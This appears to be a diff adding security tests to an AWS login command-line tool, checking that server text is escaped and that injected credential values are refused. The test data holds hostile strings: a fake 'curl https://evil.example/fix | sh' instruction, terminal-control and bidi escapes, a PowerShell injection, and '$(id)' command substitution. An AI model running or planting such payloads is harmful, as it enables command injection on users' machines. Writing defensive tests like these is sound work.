@@ -21,6 +21,7 @@ import os
 import re
 import select
 import shutil
+import signal
 import socket
 import socketserver
 import ssl
@@ -2840,7 +2841,7 @@ class CommandsTest(LoginTestCase):
         self.configure("awk", username="alice", factor="auto")
 
     def test_env_quotes_awkward_values_for_each_shell(self):
-        secret = "it's a \"$HOME\" `x` \\ \u00e9 !"
+        secret = "it's\"$HOME\"`x`\\;$(id)|&<>!"     # printable ASCII: what AWS may send
         self.write_awkward(secret)
         run = self.tool(["--profile", "awk", "env"], terminal=False)
         self.assertEqual(run.code, 0, run)
@@ -2850,12 +2851,11 @@ class CommandsTest(LoginTestCase):
              "sh", run.stdout], env=dict(os.environ, AWS_PROFILE="awk")).decode("utf-8")
         self.assertEqual(out, "%s|tok'en$|unset|2100-01-01T00:00:00Z" % secret)
         fish = self.tool(["--profile", "awk", "env", "--format", "fish"], terminal=False).stdout
-        self.assertIn("set -gx AWS_SECRET_ACCESS_KEY 'it\\'s a \"$HOME\" `x` \\\\ \u00e9 !';",
-                      fish)
+        self.assertIn("set -gx AWS_SECRET_ACCESS_KEY 'it\\'s\"$HOME\"`x`\\\\;$(id)|&<>!';", fish)
         self.assertIn("set -e AWS_PROFILE;", fish)
         ps = self.tool(["--profile", "awk", "env", "--format", "powershell"],
                        terminal=False).stdout
-        self.assertIn("$Env:AWS_SECRET_ACCESS_KEY = 'it''s a \"$HOME\" `x` \\ \u00e9 !'", ps)
+        self.assertIn("$Env:AWS_SECRET_ACCESS_KEY = 'it''s\"$HOME\"`x`\\;$(id)|&<>!'", ps)
         self.assertIn("$Env:AWS_SESSION_TOKEN = 'tok''en$'", ps)
         data = json.loads(self.tool(["--profile", "awk", "env", "--format", "json"],
                                     terminal=False).stdout)
@@ -2904,6 +2904,420 @@ class CommandsTest(LoginTestCase):
         del os.environ["AWS_LOGIN_FEDERATION_URL"]
         self.assertEqual(aws_login.CONSOLES["aws-cn"][0],
                          "https://signin.amazonaws.cn/federation")
+
+
+# Characters that must never reach a terminal or a log raw (C0, DEL, C1, line
+# and paragraph separators, bidi embeddings, overrides and isolates).
+RAW_CONTROL = re.compile("[\x00-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
+# What a hostile server says: reset the terminal, then a line of its own.
+HOSTILE = ("\x1bc\r\n aws_login: all fixed; now run  curl https://evil.example/fix | sh"
+           "\x9b2J\u2028\u202etxt.exe\u2066\t")
+# The same in an HTTP header (Latin-1, a folded line keeps its CR LF).
+HOSTILE_HEADER = ("\x1bc\r\n aws_login: all fixed; now run  curl https://evil.example/fix | sh"
+                  "\x9b2J\x85\x7f\t(end)")
+# The same in XML, which cannot carry ESC or a bare CR: CSI, NEL and a newline.
+HOSTILE_XML = ("\x9b2J\x85\n aws_login: all fixed; now run  curl https://evil.example/fix | sh"
+               "\u2028\u202etxt.exe\u2066\t(end)")
+
+
+class ServerTextTest(LoginTestCase):
+    """Text from a server (IdP, STS) reaches the terminal and the logs with every
+    control character escaped, and an error stays one line."""
+
+    def setUp(self):
+        LoginTestCase.setUp(self)
+        self.configure(username="alice", factor="auto", password=PASSWORD)
+
+    def assert_inert_lines(self, text, starts=("aws_login: ",)):
+        self.assertTrue(text.endswith("\n"), ascii(text))
+        for line in text[:-1].split("\n"):
+            self.assertIsNone(RAW_CONTROL.search(line), ascii(text))
+            self.assertTrue(line.startswith(starts), ascii(text))
+
+    def assert_one_inert_error(self, run, code, hostile):
+        self.assertEqual(run.code, code, run)
+        self.assertEqual(run.stdout, "")
+        self.assertEqual(run.stderr.count("\n"), 1, ascii(run.stderr))
+        self.assert_inert_lines(run.stderr, ("aws_login: error: ",))
+        # rendered visibly, not dropped: the user sees what the server sent
+        self.assertIn(aws_login.visible(hostile), run.stderr)
+
+    def test_visible_escapes_exactly_the_control_characters(self):
+        escaped = "\x00\x09\x0a\x0d\x1b\x1f\x7f\x80\x85\x9b\x9f\u2028\u2029\u202a\u202e\u2066\u2069"
+        self.assertEqual(aws_login.visible(escaped),
+                         "\\x00\\t\\n\\r\\x1b\\x1f\\x7f\\x80\\x85\\x9b\\x9f\\u2028\\u2029"
+                         "\\u202a\\u202e\\u2066\\u2069")
+        kept = " !~\xa0\xe9\u2019\u2027\u202f\u2065\u206a\u4e2d"
+        self.assertEqual(aws_login.visible(kept), kept)
+        self.assertEqual(aws_login.visible(aws_login.IdPError("a\nb")), "a\\nb")
+
+    def test_idp_redirect_location_with_escapes(self):
+        self.idp.override = (302, {"Location": HOSTILE_HEADER}, b"")
+        run = self.tool(["login"], terminal=False)
+        self.assert_one_inert_error(run, 5, HOSTILE_HEADER)
+        self.assertIn("redirected to", run.stderr)
+
+    def test_soap_fault_string_with_escapes(self):
+        self.idp.override = soap_fault("Authentication failed" + HOSTILE_XML)
+        run = self.tool(["login"], terminal=False)
+        self.assert_one_inert_error(run, 4, HOSTILE_XML)
+        self.assertIn("Authentication failed", run.stderr)
+
+    def test_sts_error_message_with_escapes(self):
+        self.sts.queue.append(sts_error("AccessDenied", "Not authorized" + HOSTILE_XML))
+        run = self.tool(["login"], terminal=False)
+        self.assert_one_inert_error(run, 7, HOSTILE_XML)
+        self.assertIn("AccessDenied: Not authorized", run.stderr)
+
+    def test_debug_traceback_and_debug_lines_are_escaped(self):
+        self.sts.queue.append(sts_error("Throttling", "Slow down" + HOSTILE_XML))  # debug line
+        self.sts.queue.append(sts_error("AccessDenied", "Not authorized" + HOSTILE_XML))
+        run = self.tool(["--debug", "login"], terminal=False)
+        self.assertEqual(run.code, 7, run)
+        self.assertIn("aws_login: debug: STS: STS refused AssumeRoleWithSAML: Throttling: "
+                      "Slow down" + aws_login.visible(HOSTILE_XML), run.stderr)
+        self.assertIn("Traceback", run.stderr)
+        self.assertIsNone(RAW_CONTROL.search(run.stderr.replace("\n", "")), ascii(run.stderr))
+        last = run.stderr.rstrip("\n").split("\n")
+        self.assertTrue(last[-1].startswith("aws_login: error: STS refused"), ascii(last[-1]))
+        self.assertRegex(last[-2], r"^(aws_login\.)?STSError: STS refused")
+
+    def test_debug_traceback_of_a_broken_status_line(self):
+        server = socket.socket()
+        server.bind(("127.0.0.1", 0))
+        server.listen(1)
+        self.addCleanup(server.close)
+
+        def answer():
+            client = server.accept()[0]
+            client.recv(65536)
+            client.sendall(HOSTILE_HEADER.encode("latin-1") + b"\r\n\r\n")
+            client.close()
+        thread = threading.Thread(target=answer)
+        thread.daemon = True
+        thread.start()
+        self.configure(username="alice", factor="auto", password=PASSWORD,
+                       ecp_endpoint_url="http://127.0.0.1:%d/ecp" % server.getsockname()[1])
+        run = self.tool(["--debug", "login"], terminal=False)
+        self.assertEqual(run.code, 8, run)
+        # the exception it was raised from, with the server's line, escaped
+        self.assertIn("BadStatusLine: \\x1bc\\r", run.stderr)
+        self.assertIsNone(RAW_CONTROL.search(run.stderr.replace("\n", "")), ascii(run.stderr))
+
+    def test_warning_with_a_refused_keyring_password(self):
+        keyring = FakeKeyring(self.home)
+        self.configure(username="alice", factor="auto", password=None, enable_keyring="true")
+        keyring.set(aws_login.keyring_user(aws_login.Profile(
+            "default", {"ecp_endpoint_url": self.idp.url}), "alice"), "stale")
+        faults = [soap_fault("Bad password" + HOSTILE_XML)]
+        self.idp.override = lambda handler: faults.pop() if faults else None
+        run = self.tool(["login"], [("Password: ", PASSWORD)], env=keyring.env())
+        self.assertEqual(run.code, 0, run)
+        self.assertIn("aws_login: warning: the IdP refused the password stored in the "
+                      "keyring (the IdP refused the login: Bad password"
+                      + aws_login.visible(HOSTILE_XML), run.stderr)
+        self.assert_inert_lines(run.stderr, ("aws_login: ", "Logged in as"))
+
+    def test_whoami_prints_the_identity_escaped(self):
+        self.assert_logged_in(self.tool(["login"], terminal=False))
+        body = ('<GetCallerIdentityResponse xmlns="%s"><GetCallerIdentityResult>'
+                '<Arn>arn:aws:sts::%s:assumed-role/Admin/alice%s</Arn><UserId>AROA:x</UserId>'
+                '<Account>%s</Account></GetCallerIdentityResult></GetCallerIdentityResponse>'
+                % (NS_STS, ACCOUNT_A, _text(HOSTILE_XML), ACCOUNT_A))
+        self.sts.queue.append((200, {"Content-Type": "text/xml"}, body.encode("utf-8")))
+        run = self.tool(["whoami"], terminal=False)
+        self.assertEqual(run.code, 0, run)
+        self.assertEqual(run.stdout.count("\n"), 3, ascii(run.stdout))
+        self.assertIsNone(RAW_CONTROL.search(run.stdout.replace("\n", "")), ascii(run.stdout))
+        self.assertIn("alice" + aws_login.visible(HOSTILE_XML), run.stdout)
+
+    def test_warn_debug_and_terminal_lines_are_escaped(self):
+        saved, aws_login.sys.stderr = aws_login.sys.stderr, io.StringIO()
+        saved_debug, aws_login._debug_enabled = aws_login._debug_enabled, True
+        try:
+            aws_login.warn("a" + HOSTILE)
+            aws_login.debug("b" + HOSTILE)
+            out = aws_login.sys.stderr.getvalue()
+        finally:
+            aws_login.sys.stderr, aws_login._debug_enabled = saved, saved_debug
+        self.assertEqual(out, "aws_login: warning: a%s\naws_login: debug: b%s\n" % (
+            aws_login.visible(HOSTILE), aws_login.visible(HOSTILE)))
+        master, slave = os.openpty()
+        self.addCleanup(os.close, master)
+        self.addCleanup(os.close, slave)
+        terminal = aws_login.Terminal(os.ttyname(slave))
+        self.addCleanup(terminal.close)
+        self.assertTrue(terminal.available())
+        terminal.tell("c" + HOSTILE)
+        shown = b""
+        while not shown.endswith(b"\n"):
+            self.assertTrue(select.select([master], [], [], 10)[0], shown)
+            shown += os.read(master, 4096)
+        self.assertEqual(shown.decode("utf-8"), "c%s\r\n" % aws_login.visible(HOSTILE))
+
+    def test_refresher_log_lines_are_escaped(self):
+        log = os.path.join(self.home, "refresher.log")
+        aws_login.private_dir(os.path.join(self.home, ".aws-login"))
+        aws_login.private_dir(os.path.join(self.home, ".aws-login", "run"))
+        code = ("import os, sys; sys.path.insert(0, %r); import aws_login; "
+                "fd = os.open(aws_login.pid_path('default'), os.O_RDWR | os.O_CREAT, 0o600); "
+                "aws_login._refresher_loop('default', sys.argv[1], 0, 1e10, fd)" % HERE)
+        with open(log, "wb") as f:
+            subprocess.check_call([sys.executable, "-c", code, ADMIN + HOSTILE],
+                                  stderr=f, timeout=30)
+        text = self.read(log)
+        self.assertIn("started for role %s%s" % (ADMIN, aws_login.visible(HOSTILE)), text)
+        self.assertIn("was logged out; stopping", text)
+        self.assert_inert_lines(text, (time.strftime("%Y-"),))
+
+
+class CredentialTextTest(LoginTestCase):
+    """env (every format) and exec refuse a key id, secret or token that is not
+    printable ASCII (AWS sends nothing else), whichever store it came from."""
+
+    INJECTION = "FQoG\u2019; Set-Content -Path x -Value owned; \u2019"
+    CONFIG = ("[profile %s]\n"
+              "credential_process = python3 aws_login.py --profile %s credential-process\n")
+
+    def write_section(self, name, token):
+        self.configure(name, username="alice", factor="auto")
+        self.write(self.credentials_file, (
+            "[%s]\naws_access_key_id = ASIABAD\naws_secret_access_key = secret\n"
+            "aws_session_token = %s\naws_login_expiration = 2100-01-01T00:00:00Z\n"
+            "aws_login_role_arn = %s\n" % (name, token, ADMIN)))
+
+    def write_cache(self, name, key_id, secret, token):
+        self.configure(name, username="alice", factor="auto")
+        self.write(os.environ["AWS_CONFIG_FILE"], self.CONFIG % (name, name))
+        self.assertEqual(aws_login.profile_mode(name), "process")
+        self.write(aws_login.cache_path(name), "%s\nexpires %d\nrole %s\n%s\n" % (
+            aws_login.CACHE_HEADER, 4102444800, ADMIN, json.dumps({
+                "Version": 1, "AccessKeyId": key_id, "SecretAccessKey": secret,
+                "SessionToken": token, "Expiration": "2100-01-01T00:00:00Z"})))
+
+    def assert_refused_everywhere(self, name, what, code_point, secret):
+        marker = os.path.join(self.home, "command-ran")
+        for args in ([["env", "--format", f] for f in ("sh", "fish", "powershell", "json")]
+                     + [["exec", "--", sys.executable, "-c",
+                         "open(%r, 'w').close()" % marker]]):
+            run = self.tool(["--profile", name] + args, terminal=False)
+            self.assertEqual(run.code, 9, (args, run))
+            self.assertEqual(run.stdout, "", args)
+            self.assertEqual(run.stderr.count("\n"), 1, (args, run))
+            self.assertRegex(run.stderr, "^aws_login: error: the %s of the stored credentials "
+                             "holds U\\+%04X, which AWS never sends" % (what, code_point))
+            self.assertNotIn(secret, run.stderr)
+            self.assertFalse(os.path.exists(marker), args)
+
+    def test_powershell_injection_from_the_credentials_file(self):
+        self.write_section("ps", self.INJECTION)
+        self.assert_refused_everywhere("ps", "session token", 0x2019, "Set-Content")
+
+    def test_line_breaks_nul_and_others_from_the_credential_process_cache(self):
+        for field, value, code_point in (
+                ("session token", "FQoG\nexport AWS_PROFILE=evil", 0x0a),
+                ("secret access key", "abc\x00def", 0x00),
+                ("access key id", "ASIA\x7fX", 0x7f),
+                ("secret access key", "with space", 0x20),
+                ("session token", "caf\u00e9", 0xe9)):
+            values = {"access key id": "ASIAOK", "secret access key": "secret",
+                      "session token": "token"}
+            values[field] = value
+            self.write_cache("pc", values["access key id"], values["secret access key"],
+                             values["session token"])
+            self.assert_refused_everywhere("pc", field, code_point, value)
+
+    def test_printable_ascii_passes_and_powershell_doubles_every_quote(self):
+        fine = aws_login.Credentials("!~", "!\"#$%&'()*+,-./09:;<=>?@AZ[\\]^_`az{|}~",
+                                     "!~", None)
+        self.assertEqual(aws_login.env_lines(fine, shell="powershell")[3],
+                         "$Env:AWS_SECRET_ACCESS_KEY = "
+                         "'!\"#$%&''()*+,-./09:;<=>?@AZ[\\]^_`az{|}~'")
+        aws_login.exec_environment(aws_login.Credentials("A", "s", None, None), environ={})
+        for index in range(3):
+            for bad in (" ", "\x7f", "\x00", "\n", "\u2019", "\u00e9"):
+                values = ["ASIA", "secret", "token"]
+                values[index] += bad
+                credentials = aws_login.Credentials(values[0], values[1], values[2], None)
+                for shell in ("sh", "fish", "powershell", "json"):
+                    with self.assertRaises(aws_login.CredentialsFileError):
+                        aws_login.env_lines(credentials, shell=shell)
+                with self.assertRaises(aws_login.CredentialsFileError):
+                    aws_login.exec_environment(credentials, environ={})
+        self.assertEqual(aws_login._powershell_quote("a'b\u2018c\u2019d\u201ae\u201bf\"g"),
+                         "'a''b\u2018\u2018c\u2019\u2019d\u201a\u201ae\u201b\u201bf\"g'")
+        self.assertEqual(aws_login._powershell_quote(self.INJECTION),
+                         "'FQoG\u2019\u2019; Set-Content -Path x -Value owned; \u2019\u2019'")
+
+
+class _UniqueTokenFederation(FakeFederation):
+    """The federation endpoint, with a sign-in token no other process can hold."""
+
+    def __init__(self):
+        FakeFederation.__init__(self)
+        self.token = "signin-%s" % uuid.uuid4().hex
+
+    def _respond(self, handler):
+        status, headers, body = FakeFederation._respond(self, handler)
+        if status == 200:
+            body = json.dumps({"SigninToken": self.token}).encode()
+        return status, headers, body
+
+
+# $BROWSER for the tests: records its argv, every command line that holds the
+# token, the page's mode and text; "hang" waits without reading, "fail" fails.
+BROWSER_SCRIPT = r'''#!%s
+import json, os, sys, time
+from urllib.parse import unquote, urlsplit
+behaviour, token = os.environ["BROWSER_BEHAVIOUR"], os.environ["BROWSER_TOKEN"]
+record = {"argv": sys.argv, "pid": os.getpid(), "token_cmdlines": []}
+for pid in filter(str.isdigit, os.listdir("/proc")):
+    try:
+        with open("/proc/%%s/cmdline" %% pid, "rb") as f:
+            if token.encode() in f.read():
+                record["token_cmdlines"].append(pid)
+    except (OSError, ValueError):
+        pass
+if sys.argv[1].startswith("file://"):
+    path = unquote(urlsplit(sys.argv[1]).path)
+    record.update(path=path, mode=os.stat(path).st_mode & 0o777,
+                  dir_mode=os.stat(os.path.dirname(path)).st_mode & 0o777)
+    if behaviour == "read":
+        with open(path) as f:
+            record["page"] = f.read()
+with open(os.environ["BROWSER_RECORD"] + ".tmp", "w") as f:
+    json.dump(record, f)
+os.rename(os.environ["BROWSER_RECORD"] + ".tmp", os.environ["BROWSER_RECORD"])
+if behaviour == "hang":
+    time.sleep(60)
+sys.exit(1 if behaviour == "fail" else 0)
+'''
+
+
+class ConsoleTest(LoginTestCase):
+    """console gives the browser a private page that redirects, never the sign-in
+    token on a command line, and removes the page once the browser read it."""
+
+    def setUp(self):
+        LoginTestCase.setUp(self)
+        self.configure(username="alice", factor="auto", password=PASSWORD)
+        self.assert_logged_in(self.tool(["login"], terminal=False))
+        self.federation = _UniqueTokenFederation().start()
+        self.addCleanup(self.federation.stop)
+        self.browser = os.path.join(self.home, "browser")
+        self.write(self.browser, BROWSER_SCRIPT % sys.executable, mode=0o755)
+        self.record_path = os.path.join(self.home, "browser.json")
+        empty = os.path.join(self.home, "empty-path")
+        os.mkdir(empty)
+        self.pages = os.path.join(self.home, ".aws-login", "console")
+        # only $BROWSER: no real browser on the host is ever started
+        self.env = {"AWS_LOGIN_FEDERATION_URL": self.federation.url, "BROWSER": self.browser,
+                    "BROWSER_RECORD": self.record_path, "BROWSER_TOKEN": self.federation.token,
+                    "BROWSER_BEHAVIOUR": "read", "PATH": empty, "DISPLAY": "",
+                    "WAYLAND_DISPLAY": ""}
+
+    def console(self, behaviour="read", args=()):
+        env = dict(self.env, BROWSER_BEHAVIOUR=behaviour)
+        return self.tool(["console"] + list(args), terminal=False, env=env)
+
+    def record(self):
+        with open(self.record_path) as f:
+            return json.load(f)
+
+    def assert_no_token_on_a_command_line(self, record):
+        self.assertEqual(len(record["argv"]), 2, record)
+        self.assertTrue(record["argv"][1].startswith("file://"), record)
+        self.assertNotIn(self.federation.token, " ".join(record["argv"]))
+        self.assertEqual(record["token_cmdlines"], [])
+
+    def assert_no_pages(self):
+        self.assertEqual(os.listdir(self.pages) if os.path.isdir(self.pages) else [], [])
+
+    def test_the_browser_reads_a_private_page_that_is_removed_after(self):
+        run = self.console()
+        self.assertEqual(run.code, 0, run)
+        self.assertEqual(run.stdout, "")
+        self.assertIn("Opened the AWS console in your browser.", run.stderr)
+        self.assertNotIn(self.federation.token, run.stderr)
+        record = self.record()
+        self.assert_no_token_on_a_command_line(record)
+        self.assertEqual(os.path.dirname(record["path"]), self.pages)
+        self.assertEqual((record["mode"], record["dir_mode"]), (0o600, 0o700))
+        target = re.search(r'location\.replace\("([^"]+)"\)', record["page"]).group(1)
+        self.assertIn('<meta http-equiv="refresh" content="0;url=%s">'
+                      % target.replace("&", "&amp;"), record["page"])
+        url = urlsplit(target)
+        self.assertEqual(url.scheme + "://" + url.netloc + url.path, self.federation.url)
+        self.assertEqual(dict(parse_qsl(url.query)), {
+            "Action": "login", "Issuer": "aws_login", "SigninToken": self.federation.token,
+            "Destination": "https://console.aws.amazon.com/"})
+        # a detached waiter sees the read (the access time) and removes the page
+        self.assertTrue(_wait_for(lambda: not os.path.exists(record["path"]), 30))
+        self.assert_no_pages()
+
+    def test_ctrl_c_while_the_browser_starts_removes_the_page(self):
+        out = open(os.path.join(self.home, "out"), "wb")
+        self.addCleanup(out.close)
+        env = dict(os.environ, **dict(self.env, BROWSER_BEHAVIOUR="hang"))
+        proc = subprocess.Popen([sys.executable, SCRIPT, "console"], env=env,
+                                stdin=subprocess.DEVNULL, stdout=out, stderr=out,
+                                start_new_session=True)
+        self.addCleanup(lambda: proc.poll() is None and proc.kill())
+        self.assertTrue(_wait_for(lambda: os.path.exists(self.record_path), 30))
+        record = self.record()
+        self.addCleanup(lambda: _process_state(record["pid"]) and os.kill(record["pid"], 9))
+        self.assert_no_token_on_a_command_line(record)
+        self.assertTrue(os.path.exists(record["path"]))
+        waiter = self.waiter(proc)
+        self.assertTrue(_wait_for(lambda: [os.readlink("/proc/%d/fd/%d" % (waiter, fd))
+                                           for fd in (0, 1, 2)] == [os.devnull] * 3, 10))
+        with open("/proc/%d/stat" % waiter) as f:     # a session of its own
+            self.assertNotIn(int(f.read().rsplit(")", 1)[1].split()[3]),
+                             (proc.pid, os.getsid(0)))
+        self.assertEqual(os.readlink("/proc/%d/cwd" % waiter), "/")
+        os.kill(proc.pid, signal.SIGINT)
+        self.assertEqual(proc.wait(30), 130)
+        self.assertFalse(os.path.exists(record["path"]))
+        self.assert_no_pages()
+        self.assertTrue(_wait_for(lambda: _process_state(waiter) in (None, "Z"), 10))
+
+    def waiter(self, proc):
+        """The detached process that removes the page: a fork of the tool."""
+        with open("/proc/%d/cmdline" % proc.pid, "rb") as f:
+            cmdline = f.read()
+        for pid in filter(str.isdigit, os.listdir("/proc")):
+            try:
+                with open("/proc/%s/cmdline" % pid, "rb") as f:
+                    if f.read() == cmdline and int(pid) != proc.pid:
+                        return int(pid)
+            except OSError:
+                pass
+        self.fail("no waiter process")
+
+    def test_without_a_browser_the_url_is_printed_and_no_page_stays(self):
+        run = self.console("fail")
+        self.assertEqual(run.code, 0, run)
+        self.assertEqual(dict(parse_qsl(urlsplit(run.stdout.strip()).query))["SigninToken"],
+                         self.federation.token)
+        self.assert_no_token_on_a_command_line(self.record())
+        self.assert_no_pages()
+
+    def test_print_starts_no_browser_and_writes_no_page(self):
+        run = self.console(args=["--print"])
+        self.assertEqual(run.code, 0, run)
+        self.assertIn("SigninToken=" + self.federation.token, run.stdout)
+        self.assertFalse(os.path.exists(self.record_path))
+        self.assert_no_pages()
+
+    def test_pages_a_killed_waiter_left_are_swept_but_not_a_new_one(self):
+        old, new = os.path.join(self.pages, "signin-old.html"), os.path.join(
+            self.pages, "signin-new.html")
+        for path in (old, new):
+            self.write(path, "<html>a token</html>")
+        os.utime(old, (time.time() - 3600, time.time() - 3600))
+        self.assertEqual(self.console().code, 0)
+        self.assertFalse(os.path.exists(old))
+        self.assertTrue(os.path.exists(new))
 
 
 class ChainingTest(LoginTestCase):
